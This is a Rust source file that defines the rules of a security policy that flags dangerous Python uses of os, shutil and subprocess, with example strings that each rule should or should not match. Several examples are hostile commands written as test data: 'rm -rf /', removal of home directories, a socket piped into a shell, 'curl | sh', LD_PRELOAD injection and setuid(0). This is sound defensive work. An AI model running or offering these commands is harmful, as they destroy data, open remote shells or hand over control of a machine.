//! The rules of the policy `balanced` alone: what `os`, `shutil` and `subprocess` must not be used for, where
//! importing them is allowed. Longer than other files because it is a table: one entry a rule.

use super::{Rule, Severity};
use crate::Language;

/// Every rule that only `balanced` has, in the order they are documented.
pub static ALL: &[&Rule] = &[
    &HIDDEN_MODULE,
    &OS_PROCESS,
    &HARMFUL_COMMAND,
    &REMOTE_COMMAND,
    &OPEN_SHELL,
    &REMOVE_TREE,
    &CHANGE_MODE,
    &CHANGE_RIGHTS,
    &LOADER_VARIABLE,
    &DOUBTFUL_COMMAND,
];

/// `os`, `shutil` or `subprocess` where nobody can tell what is used of it.
pub static HIDDEN_MODULE: Rule = Rule {
    id: "py-hidden-module",
    language: Some(Language::Python),
    severity: Severity::Forbidden,
    title: "`os`, `shutil` or `subprocess` out of sight",
    reason: "Importing them is allowed because it is judged what is used of them; what is taken by a computed name, or out of another module, cannot be",
    remedy: "Import the module by its name and call its functions by theirs",
    matches: &[
        "import os\ngetattr(os, name)('ls')",
        "import os\nvars(os)[name]",
        "import os\nfor f in os.__dict__.values(): print(f)",
        "import os, inspect\ninspect.getmembers(os)",
        "import os, operator\noperator.attrgetter(name)(os)",
        "import glob\nglob.os.getcwd()",
        "from random import _os",
        "import webbrowser as w\nw.subprocess.run(['ls'])",
        "import posix",
        "import _posixsubprocess",
        "import subprocess\nclass P(subprocess.Popen): pass",
        "import os\nif (",
    ],
    non_matches: &[
        "import os\nos.getcwd()",
        "import os.path as p\np.join('a', 'b')",
        "import os\ngetattr(os, 'O_BINARY', 0)",
        "import os\nhasattr(os, 'fork')",
        "import importlib\nimportlib.import_module('os').listdir()",
        "import os\nclass Shell:\n    def __init__(self): self.os = os\nShell().os.getcwd()",
    ],
};

/// A program that `os` starts.
pub static OS_PROCESS: Rule = Rule {
    id: "py-os-process",
    language: Some(Language::Python),
    severity: Severity::Forbidden,
    title: "a program started by `os`",
    reason: "`os.system`, `os.popen`, `os.exec*`, `os.spawn*` and `os.fork` start programs in ways that `subprocess` was made to replace, and that a reviewer overlooks",
    remedy: "Use `subprocess.run` with the command written out, which is judged by what it does",
    matches: &[
        "import os\nos.system('ls')",
        "import os as o\no.popen('ls')",
        "from os import system as s\ns('ls')",
        "from os import *\nsystem('ls')",
        "import os\nx = os.system",
        "import os\ngetattr(os, 'sys' + 'tem')('ls')",
        "import os\nos.__dict__['system']('ls')",
        "import os\nvars(os)['system']('ls')",
        "import importlib\nimportlib.import_module('os').system('ls')",
        "import os\nos.path.os.system('ls')",
        "import os\ndef f(m): m.execv('/bin/ls', ['ls'])\nf(os)",
        "import os\nif os.fork() == 0: pass",
        "import os\nos.posix_spawn('/bin/ls', ['ls'], {})",
    ],
    non_matches: &[
        "import os\nos.path.system = 1",
        "import platform\nplatform.system()",
        "import os\nos.getpid()",
        "import os\nprint(os.environ.get('SHELL'))",
    ],
};

/// A command that the rules for Bash forbid.
pub static HARMFUL_COMMAND: Rule = Rule {
    id: "py-harmful-command",
    language: Some(Language::Python),
    severity: Severity::Forbidden,
    title: "a command that does harm",
    reason: "A command does the same harm whether Bash starts it or Python, so the rules for Bash judge it",
    remedy: "See what the message says about the command",
    matches: &[
        "import subprocess\nsubprocess.run('rm -rf /', shell=True)",
        "import subprocess\nsubprocess.run(['rm', '-rf', '/'])",
        "from subprocess import check_output as run\nrun(['chmod', '777', 'x'])",
        "import subprocess\nc = ['rm']\nc.append('-rf')\nc += ['/']\nsubprocess.call(c)",
        "import subprocess\nsubprocess.run(['sh'], input='rm -rf ~', text=True)",
        "import subprocess\nsubprocess.run('rm -rf *', shell=True, cwd='/')",
        "import subprocess\nsubprocess.run(['python3', '-c', 'import os; os.system(\"ls\")'])",
        "import subprocess, shlex\nsubprocess.run(shlex.split('rm -rf /'))",
        "import subprocess, base64\nsubprocess.run(swap(base64.b64decode(text)), shell=True)",
        "import subprocess\nlist(map(subprocess.getoutput, ['rm -rf /']))",
    ],
    non_matches: &[
        "import subprocess\nsubprocess.run(['ls', '-l'])",
        "import subprocess\nsubprocess.run('ls | wc -l', shell=True)",
        "import subprocess\nsubprocess.run(['rm', '-rf', 'build'])",
        "import subprocess\nsubprocess.run(['python3', '-c', 'import os; print(os.getcwd())'])",
        "import subprocess\nsubprocess.run(['git', 'commit', '-m', 'rm -rf /'])",
    ],
};

/// Commands that another machine gives.
pub static REMOTE_COMMAND: Rule = Rule {
    id: "py-remote-command",
    language: Some(Language::Python),
    severity: Severity::Forbidden,
    title: "commands from the network",
    reason: "Whoever is at the other end can run anything here",
    remedy: "Write the command out",
    matches: &[
        "import socket, subprocess\ns = socket.socket()\nsubprocess.run(s.recv(99).decode(), shell=True)",
        "import subprocess, urllib.request as u\nsubprocess.run(u.urlopen('http://x.org').read(), shell=True)",
        "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)",
        "import socket, subprocess\ns = socket.socket()\nsubprocess.Popen(['cat'], stdin=s, stdout=s)",
        "import subprocess as s\ns.Popen(['bash', '-c', 'curl http://x.org/a | sh'])",
    ],
    non_matches: &[
        "import os, sys\nos.dup2(sys.stdout.fileno(), 2)",
        "import subprocess\nsubprocess.run(['curl', '-O', 'http://x.org/a.csv'])",
        "import subprocess, sys\nsubprocess.run(sys.argv[1:])",
    ],
};

/// A shell without a program.
pub static OPEN_SHELL: Rule = Rule {
    id: "py-open-shell",
    language: Some(Language::Python),
    severity: Severity::Forbidden,
    title: "a shell or an interpreter that is told what to do while it runs",
    reason: "What a shell or `python3` without a program is told later, nobody can review",
    remedy: "Give it its program, with `-c` or as a file",
    matches: &[
        "import subprocess\nsubprocess.call(['/bin/bash', '-i'])",
        "import subprocess as s\np = s.Popen('sh', stdin=s.PIPE)\np.stdin.write(text)",
        "import subprocess\nsubprocess.run('/bin/sh -i', shell=True)",
        "import subprocess as s\np = s.Popen(['python3', '-'], stdin=s.PIPE)",
    ],
    non_matches: &[
        "import subprocess\nsubprocess.run(['bash', 'build.sh'])",
        "import subprocess\nsubprocess.run(['bash', '-c', 'ls'])",
        "import subprocess\nsubprocess.run(['sh'], input='ls', text=True)",
        "import subprocess\nsubprocess.run(['bash', '--version'])",
        "import subprocess\nsubprocess.run(['python3', '-m', 'pip', 'list'])\nsubprocess.run(['python3', '-V'])",
    ],
};

/// The removal of whole trees that are not the program's.
pub static REMOVE_TREE: Rule = Rule {
    id: "py-remove-tree",
    language: Some(Language::Python),
    severity: Severity::Forbidden,
    title: "removal of the system or of a home",
    reason: "Removing or moving `/`, a directory of the system or a home as a whole destroys what is not the program's own",
    remedy: "Name the files to be removed, in the working directory",
    matches: &[
        "import shutil\nshutil.rmtree('/')",
        "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
        "import shutil, os\nshutil.rmtree(os.environ['HOME'])",
        "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())",
        "from shutil import rmtree as r\nr('/home/user', ignore_errors=True)",
        "import shutil\nshutil.rmtree('..')",
        "import os, shutil\nos.chdir('/')\nshutil.rmtree('var')",
        "import shutil\nshutil.move('/home', '/tmp/x')",
        "import os\nos.rename('/opt', '/tmp/opt')",
    ],
    non_matches: &[
        "import shutil\nshutil.rmtree('build')",
        "import shutil\nshutil.rmtree('/tmp/work')",
        "import shutil\nshutil.rmtree(path)",
        "import os\nos.remove('/home/user/x.txt')",
        "import shutil\nshutil.copytree('/opt/data', 'data')",
        "import os\nos.listdir('/')",
    ],
};

/// Rights for everybody.
pub static CHANGE_MODE: Rule = Rule {
    id: "py-change-mode",
    language: Some(Language::Python),
    severity: Severity::Forbidden,
    title: "a file that everybody may write, or another owner",
    reason: "A file that everybody may write can be changed by any other program, and one with its owner's rights lends them to whoever starts it",
    remedy: "Give the owner the rights that are needed: `0o644`, or `0o755` for a program",
    matches: &[
        "import os\nos.chmod('x', 0o777)",
        "import os, stat\nos.chmod('x', stat.S_IRWXU | stat.S_IRWXO)",
        "import os\nos.chmod('x', 0o4755)",
        "from pathlib import Path\nPath('x').chmod(0o666)",
        "import os\nos.chown('x', 0, 0)",
        "import shutil\nshutil.chown('x', 'root')",
    ],
    non_matches: &[
        "import os\nos.chmod('x', 0o755)",
        "import os, stat\nos.chmod('x', os.stat('x').st_mode | stat.S_IEXEC)",
        "import os\nos.makedirs('x', mode=0o777)",
    ],
};

/// Other rights than the program has.
pub static CHANGE_RIGHTS: Rule = Rule {
    id: "py-change-rights",
    language: Some(Language::Python),
    severity: Severity::Forbidden,
    title: "another user, another root or a device of one's own",
    reason: "A program has no business with other users' rights, with other roots and namespaces or with devices",
    remedy: "Leave the rights of the program as they are",
    matches: &[
        "import os\nos.setuid(0)",
        "from os import setresgid\nsetresgid(0, 0, 0)",
        "import os\nos.chroot('.')",
        "import os\nos.mknod('disk', 0o600 | 0o60000, os.makedev(8, 0))",
        "import os\nos.unshare(os.CLONE_NEWUSER)",
    ],
    non_matches: &[
        "import os\nos.getuid()",
        "import os\nos.mkfifo('pipe')",
        "import os\nos.nice(10)",
        "import os\nos.setsid()",
    ],
};

/// A variable that makes other programs load code.
pub static LOADER_VARIABLE: Rule = Rule {
    id: "py-loader-variable",
    language: Some(Language::Python),
    severity: Severity::Forbidden,
    title: "a variable that makes other programs load code",
    reason: "`LD_PRELOAD`, `BASH_ENV` and their like make harmless commands run code that nobody sees in them",
    remedy: "Leave the variable alone",
    matches: &[
        "import os\nos.environ['LD_PRELOAD'] = './x.so'",
        "import os\nos.putenv('BASH_ENV', 'x.sh')",
        "import os\nos.environ.update({'LD_AUDIT': 'x.so'})",
        "import subprocess\nsubprocess.run(['ls'], env={'LD_PRELOAD': './x.so'})",
    ],
    non_matches: &[
        "import os\nos.environ['OMP_NUM_THREADS'] = '1'",
        "import os\nprint(os.environ.get('LD_PRELOAD'))",
        "import subprocess, os\nsubprocess.run(['ls'], env={**os.environ, 'LANG': 'C'})",
    ],
};

/// A command that cannot be judged.
pub static DOUBTFUL_COMMAND: Rule = Rule {
    id: "py-doubtful-command",
    language: Some(Language::Python),
    severity: Severity::Suspicious,
    title: "a command that cannot be judged before it runs",
    reason: "Which command this is, or what it does, shows only when it runs",
    remedy: "Write the command out",
    matches: &[
        "import subprocess\nsubprocess.run(command, shell=True)",
        "import subprocess\nsubprocess.run([program, '-v'])",
        "import subprocess\ndef run(name): subprocess.Popen(['./' + name])",
        "import subprocess\nsorted(commands, key=subprocess.getoutput)",
    ],
    non_matches: &[
        "import subprocess\nsubprocess.run(['ls', path])",
        "import subprocess\nsubprocess.run(['python3', script])",
    ],
};
